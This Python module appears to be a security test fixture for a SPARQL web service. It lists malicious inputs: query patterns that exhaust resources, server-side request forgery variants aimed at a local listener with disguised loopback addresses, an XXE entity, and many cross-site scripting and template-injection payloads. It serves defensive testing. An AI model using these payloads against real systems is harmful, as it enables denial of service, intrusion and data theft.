"""What a visitor may send who means harm: queries that run away, ways to reach another host, scripts as text."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass, field
from urllib.parse import quote

_CROSS = "?a ?b ?c . ?d ?e ?f . ?g ?h ?i . ?j ?k ?l"
_ANY = "(<x:a>|!<x:b>)*"
_ONES = "1 " * 9_000


def _doubled(times: int) -> str:
    steps = " ".join(f"BIND(CONCAT(?x{n}, ?x{n}) AS ?x{n + 1})" for n in range(times))
    return f"SELECT (STRLEN(?x{times}) AS ?n) {{ BIND('xxxxxxxx' AS ?x0) {steps} }}"


RUNAWAY: dict[str, tuple[str, ...]] = {
    "nested braces": (
        "SELECT * " + "{" * 10_000 + "}" * 10_000,
        "SELECT * { ?s ?p ?o FILTER(" + "(" * 10_000 + "1" + ")" * 10_000 + ") }",
        "SELECT * { ?s ?p ?o FILTER(" + "!" * 50_000 + "true) }",
        "SELECT * { ?s ?p ?o FILTER(" + "1+" * 40_000 + "1 > 0) }",
        "SELECT * { ?s " + "^" * 50_000 + "<x:p> ?o }",
    ),
    "cross product": (
        f"SELECT (COUNT(*) AS ?n) {{ {_CROSS} . ?m ?n1 ?o }}",
        f"SELECT * {{ {_CROSS} }}",
        f"CONSTRUCT {{ ?a ?e ?i }} WHERE {{ {_CROSS} }}",
        f"DESCRIBE ?a ?f ?i ?l {{ {_CROSS} }}",
        f"ASK {{ {_CROSS} FILTER(STRLEN(CONCAT(STR(?a), STR(?e), STR(?i), STR(?l))) < 0) }}",
    ),
    "long paths": (
        f"SELECT (COUNT(*) AS ?n) {{ ?a {_ANY} ?b . ?c {_ANY} ?d . ?e {_ANY} ?f }}",
        f"SELECT (COUNT(*) AS ?n) {{ ?a ({_ANY}/{_ANY})+ ?b . ?c ({_ANY}|^{_ANY})+ ?d . ?e {_ANY} ?f }}",
    ),
    "order by": (
        f"SELECT * {{ {_CROSS} }} ORDER BY ?a ?e ?i LIMIT 1",
        f"SELECT * {{ {_CROSS} }} ORDER BY DESC(SHA512(CONCAT(STR(?a), STR(?l)))) OFFSET 1000000000",
    ),
    "huge values": (
        f"SELECT (COUNT(*) AS ?n) {{ VALUES ?a {{ {_ONES} }} VALUES ?b {{ {_ONES} }} VALUES ?c {{ {_ONES} }}"
        " FILTER(?a + ?b + ?c > 9) }",
    ),
    "group concat": (
        f"SELECT (GROUP_CONCAT(CONCAT(STR(?a), STR(?e), STR(?i))) AS ?x) {{ {_CROSS} }}",
        f"SELECT ?a (GROUP_CONCAT(DISTINCT STR(?i); separator='{'x' * 900}') AS ?x) {{ {_CROSS} }} GROUP BY ?a",
    ),
    "regular expressions": (
        f"SELECT (COUNT(*) AS ?n) {{ {_CROSS} FILTER(REGEX(CONCAT(STR(?a), STR(?e), STR(?i)),"
        " '(a+)+(b*)*(.*){9}[^x]{200}$')) }",
        f"SELECT (COUNT(*) AS ?n) {{ {_CROSS} FILTER(REGEX(STR(?a), CONCAT('(.*)*', STR(?e), '{{1,90}}'))) }}",
    ),
    "growing strings": (_doubled(40),),
    "distinct": (
        f"SELECT (COUNT(DISTINCT *) AS ?n) {{ {_CROSS} }}",
        f"SELECT (COUNT(DISTINCT ?u) AS ?n) {{ {_CROSS} BIND(CONCAT(STRUUID(), SHA512(STR(?a))) AS ?u) }}",
    ),
    "groups": (f"SELECT ?a ?e ?i (SAMPLE(?c) AS ?n) {{ {_CROSS} }} GROUP BY ?a ?e ?i",),
    "negation": (
        f"SELECT (COUNT(*) AS ?n) {{ {_CROSS} FILTER NOT EXISTS"
        " { ?a ?q ?r . ?r ?t ?i . FILTER(STRLEN(STR(?r)) > STRLEN(STR(?i))) } }",
        f"SELECT (COUNT(*) AS ?n) {{ {_CROSS} MINUS {{ ?a ?x ?y . ?d ?u ?v . FILTER(?x != ?u) }} }}",
    ),
    "optional and union": (
        "SELECT (COUNT(*) AS ?n) { ?a ?b ?c " + " ".join(f"OPTIONAL {{ ?a ?p{n} ?q{n} }}" for n in range(12)) + " }",
        "SELECT (COUNT(*) AS ?n) { "
        + " ".join(f"{{ ?a{n} ?b{n} ?c{n} }} UNION {{ ?c{n} ?b{n} ?a{n} }}" for n in range(6))
        + " }",
        "SELECT (COUNT(*) AS ?n) { { { SELECT DISTINCT ?a ?d { ?a ?b ?c . ?d ?e ?f } }"
        " { SELECT DISTINCT ?g ?j { ?g ?h ?i . ?j ?k ?l } } FILTER(?a != ?g && ?d < ?j) } ?x ?y ?z . ?u ?v ?w }",
    ),
}
"""Queries by what makes them run away, the plainest of each kind first."""


@dataclass(frozen=True)
class Way:
    """One request that would like this server to speak to another."""

    path: str
    method: str = "GET"
    params: tuple[tuple[str, str], ...] = ()
    data: tuple[tuple[str, str], ...] = ()
    body: str = ""
    headers: tuple[tuple[str, str], ...] = field(default=())


# In the next four, @ is the address of the other host, % a group pattern.
_CALLS = (
    *("SERVICE <@> { ?s ?p ?o }", "service <@> { ?s ?p ?o }", "SERVICE SILENT <@> { ?s ?p ?o }"),
    *("BIND(<@> AS ?x) SERVICE ?x { ?s ?p ?o }", "VALUES ?x { <@> } SERVICE SILENT ?x { ?s ?p ?o }"),
    *("?a ?b trueSERVICE<@>{ ?s ?p ?o }", "?a ?b 1.5e3SERVICE<@>{ ?s ?p ?o }"),
    *("SERVICE#\n<@>#\n{ ?s ?p ?o }", "\\u0053ERVICE <@> { ?s ?p ?o }", "S\\u0045RVICE <@> { ?s ?p ?o }"),
    *('?a ?b "\\u0022 . SERVICE <@> { ?s ?p ?o } #"', "OPTIONAL { SERVICE <@> { ?s ?p ?o } }"),
    *("{ } UNION { SERVICE <@> { ?s ?p ?o } }", "GRAPH ?g { SERVICE <@> { ?s ?p ?o } }"),
    *("FILTER EXISTS { SERVICE <@> { ?s ?p ?o } }", "MINUS { SERVICE <@> { ?s ?p ?o } }"),
    *("{ SELECT * { SERVICE <@> { ?s ?p ?o } } }", "FILTER(?a<1)SERVICE#>\n<@> { ?s ?p ?o }"),
    *("GRAPH <@> { ?s ?p ?o }", "BIND(<@>(?a) AS ?x)", "?s <@> ?o", "FILTER(<@>(1) = 1)"),
)
_QUERIES = (
    *("SELECT * FROM <@> { ?s ?p ?o }", "SELECT * FROM NAMED <@> { GRAPH ?g { ?s ?p ?o } }"),
    *("BASE <@> SELECT * FROM <x.ttl> { ?s ?p ?o }", "PREFIX x: <@> SELECT * FROM x:y.ttl { ?s ?p ?o }"),
    *("DESCRIBE <@>", "DESCRIBE <@> FROM <@>", "CONSTRUCT FROM <@> WHERE { ?s ?p ?o }", "ASK FROM <@> { }"),
    *("PREFIX x: <@> ASK { SERVICE x:y { ?s ?p ?o } }", "PREFIX SERVICE: <@> ASK { SERVICESERVICE:y { } }"),
    *("LOAD <@>", "SELECT * { } ; LOAD <@>"),
)
_UPDATES = (
    *("LOAD <@>", "LOAD SILENT <@> INTO GRAPH <x:g>", "CLEAR ALL ; LOAD <@>", "load<@>"),
    *("INSERT { ?s ?p ?o } WHERE { SERVICE <@> { ?s ?p ?o } }", "COPY <@> TO DEFAULT", "ADD <@> TO <x:g>"),
    *("INSERT { ?s ?p ?o } USING <@> WHERE { ?s ?p ?o }", "DELETE { } WHERE { SERVICE <@> { } }"),
)
_FORMS = ("SELECT * { % }", "ASK { % }", "CONSTRUCT { ?s ?p ?o } WHERE { % }", "DESCRIBE ?s { % }")
_GRAPHS = ("default-graph-uri", "named-graph-uri")
_PAGES = ("/claims?q={}", "/claims?speaker={}", "/query?query={}", "/actor/{}", "/version/{}", "/{}", "/static/{}")
_HEADERS = ("Host", "X-Forwarded-Host", "Forwarded", "Referer", "Origin", "X-Original-URL", "Accept-Language", "Link")


def ways(port: int) -> list[Way]:
    """All of them, for a listener on that port of this machine under several names."""
    names = ("127.0.0.1", "localhost", "2130706433", "0x7f.1", "[::ffff:127.0.0.1]")
    addresses = [f"http://{name}:{port}/" for name in names]
    return [*_asked(addresses), *_named(addresses, port), *_paged(addresses[0], port)]


def _asked(addresses: list[str]) -> Iterator[Way]:
    texts = [form.replace("%", call) for call in _CALLS for form in _FORMS[:2]]
    texts += [form.replace("%", _CALLS[0]) for form in _FORMS[2:]]
    for number, text in enumerate([*texts, *_QUERIES]):
        query = text.replace("@", addresses[number % len(addresses)])
        yield Way("/sparql", "POST", data=(("query", query),))
        yield Way("/query", params=(("query", query),))
        if number % 3 == 0:
            yield Way("/sparql", params=(("query", query),))
    for text in _UPDATES:
        update = text.replace("@", addresses[0])
        yield Way("/sparql", "POST", data=(("update", update),))
        yield Way("/sparql", "POST", body=update, headers=(("Content-Type", "application/sparql-update"),))


def _named(addresses: list[str], port: int) -> Iterator[Way]:
    query = ("query", "SELECT * { { ?s ?p ?o } UNION { GRAPH ?g { ?s ?p ?o } } }")
    others = [f"ftp://127.0.0.1:{port}/", f"//127.0.0.1:{port}/", f"jar:http://127.0.0.1:{port}/x!/y"]
    for address in [*addresses, *others]:
        for name in _GRAPHS:
            yield Way("/sparql", params=(query, (name, f"{address}x.ttl")))
            yield Way("/sparql", "POST", data=(query, (name, address)))
    for name in ("using-graph-uri", "using-named-graph-uri", "graph", "url", "format", "callback", "output"):
        yield Way("/sparql", "POST", data=(("update", "INSERT { } WHERE { }"), (name, addresses[0])))
        yield Way("/sparql", params=(query, (name, addresses[0])))


def _paged(address: str, port: int) -> Iterator[Way]:
    for page in _PAGES:
        yield Way(page.format(quote(address, safe="")))
        yield Way(page.format(quote(f"//127.0.0.1:{port}/", safe="/")))
    for header in _HEADERS:
        yield Way("/sparql", params=(("query", "DESCRIBE <x> { }"),), headers=((header, f"127.0.0.1:{port}"),))
        yield Way("/claims", headers=((header, address),))
    body = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "{address}">]><x>&e;</x>'
    for media in ("application/xml", "application/rdf+xml", "application/sparql-query", "text/turtle"):
        yield Way("/sparql", "POST", body=body, headers=(("Content-Type", media),))
    context = f'{{"@context": "{address}", "@id": "x:y", "x:z": "1"}}'
    yield Way("/sparql", "POST", body=context, headers=(("Content-Type", "application/ld+json"),))
    yield Way("/sparql", "PUT", body=context, params=(("graph", address),))


_CALL = "window.hurt=1;alert(1)"
_OUT = "http://canary.invalid"
PAYLOADS: tuple[str, ...] = (
    *(f"<script>{_CALL}</script>", f"</script><script>{_CALL}</script>", f"<ScRiPt >{_CALL}</sCrIpT>"),
    *(f"<script src={_OUT}/x.js></script>", f"<img src=x onerror={_CALL}>", f"<img src={_OUT}/x.png>"),
    *(f'"><img src=x onerror="{_CALL}">', f"'><img src=x onerror='{_CALL}'>", f"<svg onload={_CALL}>"),
    *(f"<svg><script>{_CALL}</script></svg>", f"<svg><a xlink:href='javascript:{_CALL}'><text y=20>x</text></a></svg>"),
    *(f"<svg><animate onbegin={_CALL} attributeName=x dur=1s>", f"<math><mi xlink:href='javascript:{_CALL}'>x</mi>"),
    *(f"<iframe src=javascript:{_CALL}></iframe>", f"<iframe srcdoc='<script>{_CALL}</script>'></iframe>"),
    *(f"<iframe src={_OUT}></iframe>", f"<object data={_OUT}></object>", f"<embed src={_OUT}>"),
    *(f"<body onload={_CALL}>", f"<details open ontoggle={_CALL}>x</details>", f"<video><source onerror={_CALL}>"),
    *(f"<input autofocus onfocus={_CALL}>", f"<select autofocus onfocus={_CALL}>", f"<audio src=x onerror={_CALL}>"),
    *(f"<marquee onstart={_CALL}>x</marquee>", f"<link rel=stylesheet href={_OUT}/x.css>", f"<base href={_OUT}/>"),
    *(f"<meta http-equiv=refresh content='0;url={_OUT}'>", f"<style>@import '{_OUT}/x.css';</style>"),
    *(f"<p style=\"background:url('{_OUT}/x')\">x</p>", f"<form action={_OUT}><button autofocus>x</button></form>"),
    *(f"javascript:{_CALL}", f"JaVaScRiPt:{_CALL}//http://x", f"java\tscript:{_CALL}", f"\x01javascript:{_CALL}"),
    *(f"data:text/html,<script>{_CALL}</script>", f"vbscript:{_CALL}", f"&lt;script&gt;{_CALL}&lt;/script&gt;"),
    *(f"&#60;script&#62;{_CALL}&#60;/script&#62;", f"\\u003cscript\\u003e{_CALL}\\u003c/script\\u003e"),
    *(
        f"{{{{ {_CALL} }}}}",
        "{{ ''.__class__.__mro__ }}",
        "{% for x in ().__class__.__base__.__subclasses__() %}x{% endfor %}",
    ),
    *(f"${{{_CALL}}}", f"';{_CALL};//", f'";{_CALL};//', f"`;{_CALL};//", f"--><script>{_CALL}</script>"),
    *(f"]]><script>{_CALL}</script>", f"</title><script>{_CALL}</script>", f"</textarea><script>{_CALL}</script>"),
    *(f"<noscript><p title='</noscript><img src=x onerror={_CALL}>'>", f"＜script＞{_CALL}＜/script＞"),
)
"""Texts that a page which took them for HTML, a script, a style, a template or a link would run or fetch."""
